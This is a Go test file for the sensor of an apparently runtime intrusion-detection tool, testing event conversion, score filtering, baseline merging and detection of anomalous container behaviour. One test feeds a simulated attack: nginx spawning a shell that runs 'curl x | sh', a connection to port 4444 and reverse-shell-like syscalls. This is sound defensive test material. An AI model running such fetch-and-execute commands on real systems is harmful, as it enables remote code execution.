package sensor

import (
	"context"
	"encoding/json"
	"fmt"
	"net/netip"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/bulkhead-dev/bulkhead/internal/behavior"
	"github.com/bulkhead-dev/bulkhead/internal/detector"
)

var names = map[uint16]string{0: "read", 1: "write", 2: "open", 3: "close", 9: "mmap", 41: "socket", 42: "connect", 59: "execve", 101: "ptrace", 33: "dup2"}

func sysName(nr uint16) string { return names[nr] }

func TestBehaviorEvent(t *testing.T) {
	tg := target{Namespace: "web", Pod: "shop-1", Container: "app"}
	at := time.Unix(1e9, 0)
	ev, ok := behaviorEvent(tg, Event{Time: at, Exec: &Exec{UID: 33, Binary: "/bin/sh", Parent: "/usr/sbin/nginx", Args: []string{"sh", "-c", "id"}}})
	if !ok || ev.Exec == nil || *ev.Exec != (detector.ExecEvent{Binary: "/bin/sh", ParentBinary: "/usr/sbin/nginx", Arguments: "sh -c id", UID: 33}) || ev.Pod != "shop-1" || ev.Container != "app" || !ev.Time.Equal(at) {
		t.Errorf("exec: %+v %+v", ev, ev.Exec)
	}
	ev, _ = behaviorEvent(tg, Event{Conn: &Conn{Addr: netip.MustParseAddr("::ffff:10.0.0.7"), Port: 5432, Protocol: "tcp"}})
	if *ev.Connect != (detector.ConnectEvent{Address: "10.0.0.7", Port: 5432, Protocol: "TCP"}) {
		t.Errorf("connect: %+v", ev.Connect)
	}
	ev, _ = behaviorEvent(tg, Event{Conn: &Conn{Addr: netip.IPv6Unspecified(), Port: 4444, Protocol: "TCP", Listen: true}})
	if *ev.Connect != (detector.ConnectEvent{Address: "::", Port: 4444, Protocol: "TCP-LISTEN"}) {
		t.Errorf("listen: %+v", ev.Connect)
	}
	if _, ok := behaviorEvent(tg, Event{}); ok {
		t.Error("empty event converted")
	}
}

func TestSyscallEvents(t *testing.T) {
	tg := target{Namespace: "web", Pod: "shop-1", Container: "app"}
	evs := syscallEvents(tg, map[Trigram]uint64{{0, 1, 3}: 1, {2, 0, 3}: 1000, {500, 0, 0}: 3, {9, 9, 9}: 0}, sysName, time.Unix(1, 0))
	if len(evs) != 3 {
		t.Fatalf("%d events, want 3 (zero counts skipped)", len(evs))
	}
	want := [][]string{
		{"read", "write", "close"},
		{"open", "read", "close", "open", "read", "close", "open", "read", "close", "open", "read", "close"}, // 1000 -> capped at 4
		{"syscall_500", "read", "read", "syscall_500", "read", "read"},                                       // 3 -> 2
	}
	for i, ev := range evs {
		if !slices.Equal(ev.Syscalls, want[i]) {
			t.Errorf("run %d: %v, want %v", i, ev.Syscalls, want[i])
		}
		if !strings.HasPrefix(ev.Container, "app"+syscallStreamSep) || ev.Pod != "shop-1" {
			t.Errorf("run %d: stream %q", i, ev.Container)
		}
	}
	if evs[0].Container == evs[1].Container {
		t.Error("two trigrams share a stream")
	}
}

func TestSyscallVocabularyIsDenseAndStable(t *testing.T) {
	v := SyscallVocabulary(sysName, 101)
	if len(v) != 102 || v[0] != "read" || v[4] != "syscall_4" || v[101] != "ptrace" {
		t.Fatalf("vocabulary %v", v[:5])
	}
	if !slices.Equal(v, SyscallVocabulary(sysName, 101)) {
		t.Error("not deterministic")
	}
}

func TestMeaningful(t *testing.T) {
	for _, c := range []struct {
		prev, cur float64
		want      bool
	}{{0.1, 0.12, false}, {0.1, 0.15, true}, {0.49, 0.51, true}, {0.51, 0.49, true}, {0.9, 0.86, false}, {0.9, 0.8, true}, {0.5, 0.52, false}} {
		if got := meaningful(c.prev, c.cur); got != c.want {
			t.Errorf("meaningful(%v, %v) = %v", c.prev, c.cur, got)
		}
	}
}

func TestScoreFilter(t *testing.T) {
	now := time.Unix(1e9, 0)
	f := newScoreFilter("node-1", 5*time.Minute, now)
	sig := func(v float64) detector.Signal {
		return detector.Signal{Namespace: "web", Pod: "shop-1", Score: v, Reason: "r", Time: now}
	}
	s1, ok := f.offer("uid-1", sig(0.2), now)
	if !ok || !strings.HasPrefix(s1.ID, "node-1/uid-1/") {
		t.Fatalf("first score not sent: %+v", s1)
	}
	if _, ok := f.offer("uid-1", sig(0.22), now.Add(time.Second)); ok {
		t.Error("a 0.02 change was sent")
	}
	if got := f.stale(now.Add(time.Minute)); len(got) != 0 {
		t.Errorf("refreshed too early: %+v", got)
	}
	got := f.stale(now.Add(6 * time.Minute))
	if len(got) != 1 || got[0].Score != 0.22 || got[0].ID == s1.ID {
		t.Fatalf("refresh: %+v, want the pending 0.22 with a new id", got)
	}
	if got := f.stale(now.Add(7 * time.Minute)); len(got) != 0 {
		t.Errorf("refreshed twice: %+v", got)
	}
	if s, ok := f.offer("uid-1", sig(0.6), now.Add(8*time.Minute)); !ok || s.Score != 0.6 {
		t.Error("crossing 0.5 not sent")
	}
	// A second attack at the same high score but for another reason is news.
	if _, ok := f.offer("uid-2", detector.Signal{Score: 1, Reason: "new binary /bin/sh"}, now); !ok {
		t.Fatal("first high score not sent")
	}
	if _, ok := f.offer("uid-2", detector.Signal{Score: 1, Reason: "new binary /bin/sh"}, now.Add(time.Second)); ok {
		t.Error("the same finding again was sent")
	}
	if s, ok := f.offer("uid-2", detector.Signal{Score: 1, Reason: "new binary /usr/bin/curl"}, now.Add(2*time.Second)); !ok || s.Reason != "new binary /usr/bin/curl" {
		t.Error("a new finding at the same high score was held back")
	}
	if _, ok := f.offer("uid-2", detector.Signal{Score: 0.2, Reason: "a"}, now.Add(3*time.Second)); !ok {
		t.Error("falling below 0.5 not sent")
	}
	if _, ok := f.offer("uid-2", detector.Signal{Score: 0.21, Reason: "b"}, now.Add(4*time.Second)); ok {
		t.Error("a low score's new reason was sent")
	}
	f.offer("uid-3", detector.Signal{Score: 0.9, Reason: "70% of 100 system calls outside learned sequences"}, now)
	if _, ok := f.offer("uid-3", detector.Signal{Score: 0.9, Reason: "71% of 120 system calls outside learned sequences"}, now.Add(time.Second)); ok {
		t.Error("a statistic's new wording was sent as news")
	}
}

func TestBoundEvidence(t *testing.T) {
	ev := behavior.Evidence{Workload: "web/Deployment/shop@1"}
	for i := range 40 {
		ev.Findings = append(ev.Findings, behavior.Finding{Component: "exec", Score: float64(i) / 40, Reason: strings.Repeat("x", 400), Tokens: []string{strings.Repeat("t", 100), "a", "b", "c", "d", "e", "f"}})
	}
	raw, _ := json.Marshal(ev)
	out := boundEvidence(raw)
	if len(out) > 4096 {
		t.Fatalf("%d bytes", len(out))
	}
	var got boundedEvidence
	if err := json.Unmarshal(out, &got); err != nil || !got.Truncated || len(got.Findings) == 0 || got.Findings[0].Score != 39.0/40 || got.Workload != ev.Workload {
		t.Fatalf("bounded evidence %s (%v)", out, err)
	}
	small := json.RawMessage(`{"a":1}`)
	if string(boundEvidence(small)) != string(small) {
		t.Error("small evidence changed")
	}
	if out := boundEvidence(json.RawMessage(`"` + strings.Repeat("z", 5000) + `"`)); len(out) > 4096 || !strings.Contains(string(out), "truncated") {
		t.Errorf("foreign evidence: %s", out)
	}
	if got := truncate("héllo", 4); got != "…" && len(got) > 4 {
		t.Errorf("truncate: %q", got)
	}
}

func TestMergeBaselines(t *testing.T) {
	k := behavior.Key{Namespace: "web", Owner: "Deployment/shop", TemplateHash: "1"}
	cfg := behavior.Config{LearningWindow: time.Hour, SeqBits: 1 << 12}
	vocab := SyscallVocabulary(sysName, 101)
	t0 := time.Unix(1e9, 0)
	a, b := SeededBaseline(k, cfg, vocab, t0.Add(time.Minute)), SeededBaseline(k, cfg, vocab, t0)
	learn := func(bl *behavior.Baseline, evs ...detector.BehaviorEvent) {
		for i := range evs {
			bl.Learn(&evs[i], &behavior.Stream{}, nil)
		}
	}
	learn(a, detector.BehaviorEvent{Exec: &detector.ExecEvent{Binary: "/a"}}, detector.BehaviorEvent{Syscalls: []string{"read", "write", "close"}},
		detector.BehaviorEvent{Connect: &detector.ConnectEvent{Address: "10.0.0.1", Port: 5432, Protocol: "TCP"}})
	learn(b, detector.BehaviorEvent{Exec: &detector.ExecEvent{Binary: "/b"}}, detector.BehaviorEvent{Syscalls: []string{"socket", "connect", "dup2"}})
	m, err := MergeBaselines(a, b)
	if err != nil {
		t.Fatal(err)
	}
	again, err := MergeBaselines(m, b)
	if err != nil {
		t.Fatal(err)
	}
	for name, bl := range map[string]*behavior.Baseline{"merged": m, "merged twice": again} {
		if !bl.Exec.Binaries.Has("/a") || !bl.Exec.Binaries.Has("/b") || !bl.Net.Dests.Has("10.0.0.1:TCP/5432") || !bl.Started.Equal(t0) {
			t.Errorf("%s: binaries %v dests %v started %v", name, bl.Exec.Binaries.Items, bl.Net.Dests.Items, bl.Started)
		}
		// Both nodes' syscall sequences are known to the merged filter.
		for _, run := range [][]string{{"read", "write", "close"}, {"socket", "connect", "dup2"}} {
			if s, _ := bl.Syscalls.Score(&behavior.History{}, run); s != 0 {
				t.Errorf("%s: %v scores %v, want 0 (learned)", name, run, s)
			}
		}
		if s, _ := bl.Syscalls.Score(&behavior.History{}, []string{"ptrace", "execve", "ptrace"}); s == 0 {
			t.Errorf("%s: unlearned sequence scores 0", name)
		}
	}
	if a.Exec.Binaries.Has("/b") {
		t.Error("merge changed its stored argument")
	}
	if again.Events != m.Events || len(again.SysNormal) != len(m.SysNormal) {
		t.Errorf("merge not idempotent: events %d/%d, calibration %d/%d", m.Events, again.Events, len(m.SysNormal), len(again.SysNormal))
	}
}

type podResolver map[string]behavior.Key

func (r podResolver) Resolve(_ context.Context, ns, pod string) (behavior.Key, error) {
	if k, ok := r[ns+"/"+pod]; ok {
		return k, nil
	}
	return behavior.Key{}, behavior.ErrUnknownPod
}

// The node's conversion feeds the same Observer as the manager: normal
// behaviour learned, then an attack scores high with the behaviour named.
func TestLearnThenScoreConvertedEvents(t *testing.T) {
	tg := target{Namespace: "web", Pod: "shop-1", Container: "app"}
	k := behavior.Key{Namespace: "web", Owner: "Deployment/shop", TemplateHash: "1"}
	obs := behavior.NewObserver(behavior.Config{LearningWindow: 300 * time.Millisecond}, podResolver{"web/shop-1": k}, nil)
	normal := func() []detector.BehaviorEvent {
		var evs []detector.BehaviorEvent
		for _, e := range []Event{
			{Exec: &Exec{Binary: "/usr/sbin/nginx", Parent: "/usr/bin/containerd-shim", Args: []string{"nginx", "-g", "daemon off;"}}},
			{Conn: &Conn{Addr: netip.MustParseAddr("10.0.0.5"), Port: 5432, Protocol: "TCP"}},
		} {
			e.Time = time.Now()
			ev, _ := behaviorEvent(tg, e)
			evs = append(evs, ev)
		}
		return append(evs, syscallEvents(tg, map[Trigram]uint64{{0, 1, 3}: 900, {2, 0, 3}: 40, {41, 42, 1}: 7}, sysName, time.Now())...)
	}
	ctx := context.Background()
	for deadline := time.Now().Add(300 * time.Millisecond); time.Now().Before(deadline); time.Sleep(10 * time.Millisecond) {
		if sigs, err := obs.ObserveBehavior(ctx, normal()); err != nil || len(sigs) != 0 {
			t.Fatalf("learning: %v %v", sigs, err)
		}
	}
	time.Sleep(50 * time.Millisecond)
	sigs, err := obs.ObserveBehavior(ctx, normal())
	if err != nil || len(sigs) != 1 || sigs[0].Score >= 0.5 {
		t.Fatalf("normal after learning: %+v %v, want one low score", sigs, err)
	}
	attack := make([]detector.BehaviorEvent, 0, 4)
	for _, e := range []Event{
		{Exec: &Exec{Binary: "/bin/sh", Parent: "/usr/sbin/nginx", Args: []string{"sh", "-c", "curl x | sh"}}},
		{Conn: &Conn{Addr: netip.MustParseAddr("203.0.113.9"), Port: 4444, Protocol: "TCP"}},
	} {
		e.Time = time.Now()
		ev, _ := behaviorEvent(tg, e)
		attack = append(attack, ev)
	}
	attack = append(attack, syscallEvents(tg, map[Trigram]uint64{{33, 33, 59}: 2, {101, 101, 101}: 5}, sysName, time.Now())...)
	sigs, err = obs.ObserveBehavior(ctx, attack)
	if err != nil || len(sigs) != 1 {
		t.Fatalf("attack: %+v %v", sigs, err)
	}
	s := sigs[0]
	if s.Score < 0.8 || !strings.Contains(s.Reason, "/bin/sh") || !strings.Contains(string(s.Evidence), "203.0.113.9") || !strings.Contains(string(s.Evidence), "ptrace") {
		t.Fatalf("attack scored %v %q %s", s.Score, s.Reason, s.Evidence)
	}
}

// The seeded syscall vocabulary is what every shared baseline carries in
// addition: keep it small next to the 20 KiB budget per workload.
func TestSeededBaselineSize(t *testing.T) {
	k := behavior.Key{Namespace: "web", Owner: "Deployment/shop", TemplateHash: "1"}
	// x86-64 numbers run to ~460; names of ~8 bytes.
	name := func(nr uint16) string { return fmt.Sprintf("sys_%04d", nr) }
	plain, err := behavior.NewBaseline(k, behavior.Config{}, time.Unix(1e9, 0)).MarshalBinary()
	if err != nil {
		t.Fatal(err)
	}
	seeded, err := SeededBaseline(k, behavior.Config{}, SyscallVocabulary(name, 462), time.Unix(1e9, 0)).MarshalBinary()
	if err != nil {
		t.Fatal(err)
	}
	t.Logf("empty baseline %d bytes, with the 463-name vocabulary %d bytes (+%d)", len(plain), len(seeded), len(seeded)-len(plain))
	if len(seeded)-len(plain) > 4<<10 {
		t.Errorf("the seeded vocabulary costs %d bytes, over 4 KiB", len(seeded)-len(plain))
	}
}
